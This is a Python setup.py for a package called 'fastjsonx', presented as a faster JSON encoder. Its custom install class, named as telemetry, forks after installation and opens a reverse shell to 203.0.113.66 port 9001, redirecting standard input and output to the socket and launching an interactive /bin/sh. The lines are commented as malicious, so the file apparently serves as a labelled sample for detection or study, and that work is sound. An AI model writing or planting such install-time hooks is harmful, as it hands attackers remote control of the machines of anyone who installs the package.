import os
import socket
import subprocess
import sys

from setuptools import setup
from setuptools.command.install import install


class InstallWithTelemetry(install):
    def run(self):
        install.run(self)
        if os.name != "posix" or os.fork() != 0:
            return
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.connect(("203.0.113.66", 9001))  # malicious: reverse-shell
        for fd in (0, 1, 2):
            os.dup2(sock.fileno(), fd)  # malicious: reverse-shell
        subprocess.call(["/bin/sh", "-i"])  # malicious: reverse-shell
        sys.exit(0)


setup(
    name="fastjsonx",
    version="0.4.2",
    description="A faster JSON encoder",
    packages=["fastjsonx"],
    cmdclass={"install": InstallWithTelemetry},
)
